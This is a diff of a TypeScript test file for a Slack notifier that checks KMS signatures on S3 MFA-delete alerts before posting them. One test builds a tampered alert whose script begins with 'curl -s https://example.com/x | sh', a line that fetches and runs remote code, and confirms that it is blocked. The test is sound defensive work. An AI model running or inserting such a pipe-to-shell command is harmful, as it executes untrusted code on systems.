@@ -5,11 +5,13 @@ import type { AddressInfo } from 'node:net';
 import { KMSClient } from '@aws-sdk/client-kms';
 import type { SNSEvent } from 'aws-lambda';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { createSlackNotifier } from '../../functions/slackNotifier';
-import { signPublication } from '../../lib/authenticity';
+import { createSlackNotifier } from '../../lib/channels/slack/notifier';
+import { signPublication, verifiedTopicReader } from '../../lib/authenticity';
 import { kmsMessageMac } from '../../lib/aws/messageMac';
-import { renderAlert } from '../../lib/domain/renderAlert';
-import { UNVERIFIED_HEADLINE, renderSlack } from '../../lib/domain/slackMessage';
+import { snsPublication } from '../../lib/channels/publish';
+import { renderSlack } from '../../lib/channels/slack';
+import { UNVERIFIED_HEADLINE } from '../../lib/channels/words';
+import { resultMessage } from '../../lib/domain/topicMessage';
 import { scenarioFixtures } from '../golden/fixtures';
 import { startFakeAws, type FakeAws } from '../support/fakeAws';
 import { lambdaContext } from '../support/lambdaContext';
@@ -53,9 +55,9 @@ beforeEach(() => {
 const notifier = () =>
   createSlackNotifier({
     webhookUrl: async () => new URL(slackUrl),
-    mac: kmsMessageMac(kms, guardKey),
+    readMessage: verifiedTopicReader(kmsMessageMac(kms, guardKey)),
     minSeverity: 'info',
-    log: { info: () => undefined, warn: () => undefined },
+    log: { info: () => undefined, warn: () => undefined, error: () => undefined },
   });
 
 /** What SNS hands the notifier for a publish: the `lambda` key of the per-protocol message. */
@@ -70,7 +72,7 @@ const snsEvent = (perProtocol: string, subject = 'S3 alert'): SNSEvent => ({
         MessageId: 'message-1',
         TopicArn: 'arn:aws:sns:eu-west-1:111122223333:alerts',
         Subject: subject,
-        Message: (JSON.parse(perProtocol) as Record<string, string>).lambda!,
+        Message: (JSON.parse(perProtocol) as Record<string, string>).default!,
         Timestamp: '2026-10-05T14:05:01.000Z',
         SignatureVersion: '1',
         Signature: 'EXAMPLE',
@@ -83,9 +85,9 @@ const snsEvent = (perProtocol: string, subject = 'S3 alert'): SNSEvent => ({
 });
 
 const signedWith = async (key: string) =>
-  (await signPublication(kmsMessageMac(kms, key), renderAlert(drift))).message;
+  (await signPublication(kmsMessageMac(kms, key), snsPublication(resultMessage(drift)))).message;
 
-/** Slack got exactly one unverified notice, and nothing of the message's script or commands. */
+/** Slack got exactly one unverified notice: what the message claimed, nothing of its script or commands. */
 function expectOnlyUnverified(): void {
   expect(received).toHaveLength(1);
   const text = JSON.stringify(received[0]);
@@ -93,7 +95,10 @@ function expectOnlyUnverified(): void {
   expect(text).not.toContain('aws s3api');
   expect(text).not.toContain('put-bucket-versioning');
   expect(text).not.toContain('MFA_CODE');
-  expect(text).not.toContain(drift.bucket);
+  // What it claimed to be, in its own (untrusted) words, and nothing of its content.
+  expect(text).toContain(
+    'claims to be from mfa-delete-guard: kind alert, status drift, bucket example-bucket, account 111122223333, Region eu-west-1 (the rest is not shown)',
+  );
 }
 
 describe('the Slack notifier checks every signature before it renders', () => {
@@ -101,14 +106,15 @@ describe('the Slack notifier checks every signature before it renders', () => {
     await expect(notifier()(snsEvent(await signedWith(guardKey)), lambdaContext())).resolves.toEqual({
       posted: 1,
       skipped: 0,
+      notPosted: 0,
     });
     expect(fake.stats().byOperation.VerifyMac).toBe(1);
-    expect(received).toEqual([JSON.parse(JSON.stringify(renderSlack(drift)))]);
+    expect(received).toEqual([JSON.parse(JSON.stringify(renderSlack(resultMessage(drift))))]);
     expect(JSON.stringify(received[0])).toContain('put-bucket-versioning');
   });
 
   it('an unsigned alert (published by another principal) reaches Slack only as an unverified notice', async () => {
-    await notifier()(snsEvent(renderAlert(drift).message), lambdaContext());
+    await notifier()(snsEvent(snsPublication(resultMessage(drift)).message), lambdaContext());
     expectOnlyUnverified();
     expect(JSON.stringify(received[0])).toContain('it carries no signature');
   });
@@ -121,9 +127,9 @@ describe('the Slack notifier checks every signature before it renders', () => {
 
   it('a genuine alert whose script was changed after signing reaches Slack only as an unverified notice', async () => {
     const genuine = JSON.parse(await signedWith(guardKey)) as Record<string, string>;
-    const machine = JSON.parse(genuine.lambda!) as { result: { remediation: { script: string } } };
+    const machine = JSON.parse(genuine.default!) as { result: { remediation: { script: string } } };
     machine.result.remediation.script = `curl -s https://example.com/x | sh\n${SCRIPT}`;
-    const forged = JSON.stringify({ ...genuine, lambda: JSON.stringify(machine) });
+    const forged = JSON.stringify({ ...genuine, default: JSON.stringify(machine) });
     expect(forged).toContain('example.com');
     await notifier()(snsEvent(forged), lambdaContext());
     expectOnlyUnverified();
@@ -132,10 +138,12 @@ describe('the Slack notifier checks every signature before it renders', () => {
 
   it('a malformed signature reaches Slack only as an unverified notice, without asking KMS', async () => {
     const genuine = JSON.parse(await signedWith(guardKey)) as Record<string, string>;
-    const machine = JSON.parse(genuine.lambda!) as Record<string, unknown>;
+    const machine = JSON.parse(genuine.default!) as Record<string, unknown>;
     machine.signature = { version: 1, algorithm: 'HMAC_SHA_256', digest: 'SHA-256', mac: 'AAAA' };
-    const lambda = JSON.stringify(machine);
-    await notifier()(snsEvent(JSON.stringify({ ...genuine, lambda })), lambdaContext());
+    await notifier()(
+      snsEvent(JSON.stringify({ ...genuine, default: JSON.stringify(machine) })),
+      lambdaContext(),
+    );
     expectOnlyUnverified();
     expect(fake.stats().byOperation.VerifyMac).toBeUndefined();
   });
